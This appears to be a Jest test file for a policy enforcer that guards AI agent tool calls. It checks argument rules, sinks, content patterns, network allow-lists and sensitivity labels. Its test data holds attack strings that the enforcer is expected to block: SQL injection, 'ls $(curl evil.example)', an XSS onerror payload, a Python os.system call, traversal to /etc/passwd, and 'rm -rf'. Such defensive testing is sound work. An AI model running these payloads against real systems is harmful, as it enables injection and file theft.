import { afterAll, describe, expect, it } from '@jest/globals';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { enforce, Redactor, Sensitivity, Enforce, EnforceCoreError, Enforcer, withResults, type EnforcementResult } from '../src/index.js';
import { errorOf, houseWith, removeTempFolders, tempFolder, type TestHouse } from './kit.js';

afterAll(removeTempFolders);

type Args = Readonly<Record<string, unknown>>;

/** Calls a tool that gives back what it got, or `gives`. */
async function call(house: TestHouse, tool: string, args: Args, options: { readonly gives?: unknown; readonly tenant?: string } = {}): Promise<{ got: unknown; result: EnforcementResult | undefined; error: unknown; ran: boolean }> {
  let ran = false;
  let error: unknown;
  let got: unknown;
  const body = async (given: unknown): Promise<unknown> => {
    ran = true;
    return 'gives' in options ? options.gives : given;
  };
  const { results } = await withResults(async () => {
    try {
      got = await new Enforcer(undefined, { container: house.container }).run(body, { tool, args: [args], tenant: options.tenant });
    } catch (thrown) {
      error = thrown;
    }
  });
  return { got, result: results[0], error, ran };
}

function tools(rules: object, top: object = {}): TestHouse {
  return houseWith({ tools: rules }, {}, top);
}

describe('arguments', () => {
  const house = tools({
    pay: {
      args: {
        amount: { type: 'number', min: 1, max: 1000, required: true },
        currency: { enum: ['EUR', 'USD'] },
        'lines[*].sku': { pattern: '[A-Z]{2}[0-9]+', max_length: 8 },
        note: { denied: ['test'] },
      },
      extra_args: 'deny',
    },
  });

  it.each<[Args, string]>([
    [{ amount: 0 }, 'rules.tools.pay.args.amount.min'],
    [{ amount: 1001 }, 'rules.tools.pay.args.amount.max'],
    [{ amount: '10' }, 'rules.tools.pay.args.amount.type'],
    [{ amount: Number.NaN }, 'rules.tools.pay.args.amount.min'],
    [{}, 'rules.tools.pay.args.amount.required'],
    [{ amount: 5, currency: 'eur' }, 'rules.tools.pay.args.currency.allowed'],
    [{ amount: 5, lines: [{ sku: 'AB1' }, { sku: 'ab1' }] }, 'rules.tools.pay.args["lines[*].sku"].pattern'],
    [{ amount: 5, lines: [{ sku: 'AB1\nAB2' }] }, 'rules.tools.pay.args["lines[*].sku"].pattern'],
    [{ amount: 5, note: 'test' }, 'rules.tools.pay.args.note.denied'],
    [{ amount: 5, admin: true }, 'rules.tools.pay.extra_args'],
  ])('D-10: blocks %j by %s, and the tool does not run', async (args, rule) => {
    const { error, ran, result } = await call(house, 'pay', args);

    expect(error).toMatchObject({ code: 'ARGUMENT_VIOLATION', violationType: 'argument_violation' });
    expect(result?.violations.map((violation) => violation.rule)).toContain(rule);
    expect(ran).toBe(false);
  });

  it('lets pass what fits', async () => {
    const args = { amount: 5, currency: 'EUR', lines: [{ sku: 'AB1' }], note: 'rent' };

    expect((await call(house, 'pay', args)).got).toEqual(args);
  });

  it('says everything that is wrong with a call, and shows no value of it', async () => {
    const { result } = await call(house, 'pay', { amount: 'sesame-7', currency: 'sesame-7', note: 'test' });

    expect(result?.violations.map(({ path }) => path)).toEqual(['amount', 'amount', 'amount', 'currency', 'note']);
    expect(JSON.stringify(result)).not.toContain('sesame-7');
  });

  it('holds rules for positional arguments by their names', async () => {
    const greet = enforce((name: string) => name, { tool: 'greet', params: ['name'], container: tools({ greet: { args: { name: { max_length: 3 } } } }).container });

    expect(greet('ann')).toBe('ann');
    expect(() => greet('anna')).toThrow(EnforceCoreError);
  });

  it('hold for an object that something else follows, and refuse what they cannot name', () => {
    const { container } = tools({ pay: { args: { amount: { max: 5 } } } });
    const pay = enforce((_input: Args, _config?: unknown) => 'paid', { tool: 'pay', container });
    const aside = enforce((_input: Args, _config?: unknown) => 'paid', { tool: 'pay', container, opaque: [1] });

    expect(pay({ amount: 5 }, undefined)).toBe('paid');
    expect(() => pay({ amount: 9 }, undefined)).toThrow(expect.objectContaining({ path: 'amount' }));
    expect(aside({ amount: 5 }, { trace: true })).toBe('paid');
    expect(() => aside({ amount: 9 }, { trace: true })).toThrow(expect.objectContaining({ path: 'amount' }));
    expect(() => pay({ amount: 5 }, { trace: true })).toThrow('without names');
  });

  it.each(['constructor', '__proto__', 'toString'])('treats an argument named %s as a name like any other', async (name) => {
    const odd = tools({ t: { args: { [name]: { max: 3 } } } });
    const args = JSON.parse(`{"${name}": 9}`) as Args; // so that __proto__ is a key of its own

    expect((await call(odd, 't', args)).error).toBeInstanceOf(EnforceCoreError);
    expect((await call(odd, 't', {})).ran).toBe(true);
  });

  it('reads no inherited member', async () => {
    expect((await call(tools({ t: { args: { 'toString.name': { denied: ['toString'] } } } }), 't', { a: 1 })).ran).toBe(true);
  });
});

describe('sinks', () => {
  it.each<[string, object, string, string]>([
    ['sql', {}, 'select id from orders where id = 1', 'select 1; drop table orders'],
    ['sql', { sql: { dialect: 'mysql', tables: { allowed: ['orders'] } } }, 'select id from orders', 'select id from users'],
    ['shell', { shell: { programs: { allowed: ['ls', 'cat'] } } }, 'ls -la | cat', 'ls $(curl evil.example)'],
    ['url', { url: { hosts: { allowed: ['*.example.com'] } } }, 'https://api.example.com/x', 'https://api.example.com@evil.net/'],
    ['html', {}, '<p>hello <b>you</b></p>', '<img src=x onerror=alert(1)>'],
    ['code', { code: { language: 'python' } }, 'sum([1, 2, 3])', '__import__("os").system("id")'],
  ])('%s: passes what it parses and allows, and blocks the attack', async (sink, options, good, bad) => {
    const house = tools({ t: { args: { text: { sink, ...options } } } });

    expect((await call(house, 't', { text: good })).error).toBeUndefined();
    const { error, ran } = await call(house, 't', { text: bad });
    expect([error instanceof EnforceCoreError, ran]).toEqual([true, false]);
    expect((await call(house, 't', { text: 7 })).ran).toBe(false);
  });

  it('path: keeps inside its folder, which is relative to the policy file', async () => {
    const folder = tempFolder();
    mkdirSync(join(folder, 'docs'));
    writeFileSync(join(folder, 'docs', 'a.txt'), 'a');
    symlinkSync('/etc', join(folder, 'docs', 'out'));
    writeFileSync(join(folder, 'p.yaml'), 'name: p\nrules:\n  tools:\n    read:\n      args:\n        file: { sink: path, path: { root: docs } }\n');
    const house = houseWith();
    const read = (file: string): Promise<unknown> => new Enforcer(join(folder, 'p.yaml'), { container: house.container }).run(async () => 'read', { tool: 'read', args: [{ file }] });

    await expect(read('a.txt')).resolves.toBe('read');
    for (const bad of ['../p.yaml', 'out/passwd', '/etc/passwd', 'a.txt\0.png']) await expect(read(bad)).rejects.toThrow(EnforceCoreError);
  });

  it('looks again right before the tool runs, when redaction has rewritten the text', async () => {
    const house = houseWith({ pii_redaction: { categories: ['email'] }, tools: { q: { args: { sql: { sink: 'sql' } } } } });
    const rewriting = (to: string): Redactor => ({
      redact: (text) => (text.startsWith('select') ? { text: to, findings: [{ kind: 'pii', category: 'email', start: 0, end: 1 }] } : { text, findings: [] }),
    });

    house.container.rebind(Redactor).toConstantValue(rewriting("select 'x' as hidden"));
    expect((await call(house, 'q', { sql: "select 'a@b.example'" })).got).toEqual({ sql: "select 'x' as hidden" });
    house.container.rebind(Redactor).toConstantValue(rewriting('drop table x'));
    expect((await call(house, 'q', { sql: "select 'a@b.example'" })).ran).toBe(false);
  });
});

describe('conditions', () => {
  it('hold for one tool and for several, and a failing one counts as broken', async () => {
    const house = houseWith({
      tools: { refund: { when: 'args.amount <= 100 || tenant == "head-office"' } },
      conditions: [{ name: 'no-strangers', tools: ['re*'], unless: 'tenant == "stranger"', reason: 'strangers do not get money' }],
    });

    expect((await call(house, 'refund', { amount: 99 })).ran).toBe(true);
    expect((await call(house, 'refund', { amount: 101 }, { tenant: 'head-office' })).ran).toBe(true);
    expect((await call(house, 'refund', { amount: 101 })).error).toMatchObject({ violationType: 'condition_violation' });
    expect((await call(house, 'refund', {})).error).toMatchObject({ violationType: 'condition_violation' });
    const stranger = await call(house, 'refund', { amount: 1 }, { tenant: 'stranger' });
    expect(stranger.result?.violations).toEqual([expect.objectContaining({ rule: 'rules.conditions.no-strangers', reason: expect.stringContaining('strangers do not get money') })]);
  });

  it('context: lets calls happen only where it says', async () => {
    const rules = { context: { environment: ['staging'] } };

    expect((await call(houseWith(rules, { environment: 'staging' }), 't', {})).ran).toBe(true);
    expect((await call(houseWith(rules, { environment: 'production' }), 't', {})).ran).toBe(false);
    expect((await call(houseWith(rules), 't', {})).ran).toBe(false);
  });
});

describe('content rules', () => {
  const rules = (action: string): object => ({
    content_rules: { block_patterns: [{ name: 'sql_injection', action }, { name: 'project', pattern: 'blue-?harvest', action }] },
  });

  it('D-11, D-66: block in arguments, also in names of members and in disguise', async () => {
    const house = houseWith(rules('block'));

    for (const args of [{ q: "x' OR '1'='1" }, { list: [{ deep: 'Blue-Harvest' }] }, { 'blue-harvest': 1 }, { q: 'blue\u200b-harvest' }, { q: 'ｂｌｕｅ-harvest' }]) {
      const { error, ran } = await call(house, 't', args);
      expect([args, error instanceof EnforceCoreError, ran]).toEqual([args, true, false]);
    }
    expect((await call(house, 't', { q: 'a harvest in blue' })).ran).toBe(true);
  });

  it('redact hides what matched from the tool, and says so', async () => {
    const { got, result } = await call(houseWith(rules('redact')), 't', { q: 'about blue-harvest, then' });

    expect(got).toEqual({ q: 'about <PROJECT>, then' });
    expect(result).toMatchObject({ decision: 'redacted', violations: [{ action: 'redact', path: 'q' }] });
  });

  it('D-05: log lets the call go on, and the violation is visible in result and entry', async () => {
    const house = houseWith(rules('log'));
    const { got, result } = await call(house, 't', { q: 'blue-harvest' });

    expect(got).toEqual({ q: 'blue-harvest' });
    expect(result).toMatchObject({ decision: 'allowed', violations: [{ action: 'log', type: 'content_violation' }, { action: 'log', type: 'content_violation' }] });
    expect(house.auditor.calls[0]).toMatchObject({ decision: 'allowed', violation_type: 'content_violation', violations: [{ action: 'log' }, { action: 'log' }] });
  });

  it('D-17: look into results, deep, and withhold or clean them', async () => {
    const gives = { rows: [{ text: 'the blue-harvest papers' }] };

    expect((await call(houseWith(rules('block')), 't', {}, { gives })).error).toMatchObject({ code: 'CONTENT_VIOLATION', violationType: 'content_violation' });
    expect((await call(houseWith(rules('redact')), 't', {}, { gives })).got).toEqual({ rows: [{ text: 'the <PROJECT> papers' }] });
  });

  it('see what is cut across the chunks of a stream', async () => {
    async function* pieces(): AsyncGenerator<string> {
      yield 'x'.repeat(3_000);
      for (const letter of 'blue-harvest') yield letter;
      yield 'y'.repeat(3_000);
    }
    const stream = enforce(pieces, { tool: 's', container: houseWith(rules('redact')).container });
    let text = '';
    for await (const piece of stream()) text += piece;

    expect(text).toBe(`${'x'.repeat(3_000)}<PROJECT>${'y'.repeat(3_000)}`);
  });

  it('end a stream before anything of what they block is let out', async () => {
    async function* pieces(): AsyncGenerator<string> {
      yield 'fine. '.repeat(1_000);
      yield 'blue-harv';
      yield 'est';
      yield 'y'.repeat(3_000);
    }
    const stream = enforce(pieces, { tool: 's', container: houseWith(rules('block')).container });
    let text = '';
    const read = async (): Promise<void> => {
      for await (const piece of stream()) text += piece;
    };

    await expect(read()).rejects.toMatchObject({ violationType: 'content_violation' });
    expect(text).not.toContain('blue');
  });
});

describe('network', () => {
  const network = { allowed_domains: ['api.example.com'] };

  it('D-02, D-67: holds without enabled, for every host in the arguments', async () => {
    const house = houseWith({ network });

    expect((await call(house, 't', { url: 'https://api.example.com/v1' })).ran).toBe(true);
    for (const url of ['HTTPS://evil.com', 'http://api.example.com@evil.com/', '//evil.com/x', 'evil.com', 'https://evil\u200b.com']) {
      expect([url, (await call(house, 't', { deep: [{ url }] })).error]).toEqual([url, expect.objectContaining({ violationType: 'domain_denied' })]);
    }
  });

  it('is narrowed by a tool, and handed to the guard', async () => {
    const house = houseWith({ network: { deny_all_other: false }, tools: { t: { network: { allowed_domains: ['only.example'] } } } });

    expect((await call(house, 't', { url: 'https://other.example' })).ran).toBe(false);
    expect((await call(house, 'u', { url: 'https://other.example' })).ran).toBe(true);
  });
});

describe('sensitivity labels (D-73)', () => {
  const labels = { default_clearance: 'internal', fields: { 'customer.ssn': 'restricted' }, clearances: { vault: 'restricted' } };

  it('hide a field above the clearance of the tool, and leave it to a tool that is cleared', async () => {
    const house = houseWith({ sensitivity_labels: labels });
    const args = { customer: { ssn: 'secret', name: 'Ann' } };

    const plain = await call(house, 'mail', args);
    expect(plain.got).toEqual({ customer: { ssn: '<RESTRICTED>', name: 'Ann' } });
    expect(plain.result).toMatchObject({ decision: 'redacted', violations: [{ type: 'sensitivity_violation', path: 'customer.ssn', action: 'redact' }] });
    expect((await call(house, 'vault', args)).got).toEqual(args);
  });

  it('block where the policy says so, by a decorator on a parameter as well', async () => {
    class Tools {
      @Enforce({ tool: 'send', params: ['to', 'body'] })
      async send(to: string, @Sensitivity('confidential') body: string): Promise<string> {
        return to + body;
      }
    }
    const house = houseWith({ sensitivity_labels: { fallback: 'block' } });
    house.container.bind(Tools).toSelf();

    expect(await errorOf(() => house.container.get(Tools).send('a', 'b'))).toMatchObject({ violationType: 'sensitivity_violation' });
  });

  it('take what nobody labelled at the level that the policy gives it', async () => {
    const house = houseWith({ sensitivity_labels: { default_label: 'confidential', fallback: 'block' } });

    expect((await call(house, 't', { anything: 1 })).ran).toBe(false);
    expect((await call(house, 't', {})).ran).toBe(true);
  });
});

describe('mode: monitor', () => {
  it('blocks nothing, changes nothing, and records what it would have done', async () => {
    const house = houseWith(
      {
        denied_tools: ['drop'],
        network: {},
        content_rules: { block_patterns: [{ name: 'x', pattern: 'xyzzy', action: 'redact' }] },
        rate_limits: { global: { max_calls: 1 } },
        max_output_size_bytes: 5,
      },
      {},
      { mode: 'monitor' },
    );

    const first = await call(house, 'drop', { text: 'xyzzy https://evil.com' });
    const second = await call(house, 'drop', { text: 'xyzzy https://evil.com' });

    expect(first.got).toEqual({ text: 'xyzzy https://evil.com' });
    expect(second.result?.violations.map(({ type, action }) => `${type} ${String(action)}`)).toEqual([
      'tool_denied would_block',
      'content_violation would_redact',
      'domain_denied would_block',
      'rate_limit would_block',
      'content_violation would_redact',
      'output_size would_block',
    ]);
    expect(house.auditor.calls.map(({ decision }) => decision)).toEqual(['allowed', 'allowed']);
  });

  it('still refuses what is no tool call at all', async () => {
    expect((await call(houseWith({}, {}, { mode: 'monitor' }), 'rm -rf', {})).error).toMatchObject({ code: 'TOOL_NAME' });
  });
});

describe('what the shipped services cannot hold', () => {
  it('a sandbox: every call is refused, and says why', async () => {
    const { error, ran } = await call(houseWith({ sandbox: { strategy: 'subprocess' } }), 't', {});

    expect(error).toMatchObject({ code: 'SANDBOX', message: expect.stringMatching(/process|moved/) });
    expect(ran).toBe(false);
  });

  it('names of people: goes on without, or blocks where the policy says so', async () => {
    const pii = (fallback: boolean): TestHouse => houseWith({ pii_redaction: { categories: ['person_name', 'email'], ner_fallback_to_regex: fallback } });

    expect((await call(pii(true), 't', { to: 'a@corp.io' })).got).toEqual({ to: '<EMAIL>' });
    expect((await call(pii(false), 't', { to: 'a@corp.io' })).error).toMatchObject({ code: 'REDACTION', message: expect.stringContaining('person_name') });
  });
});
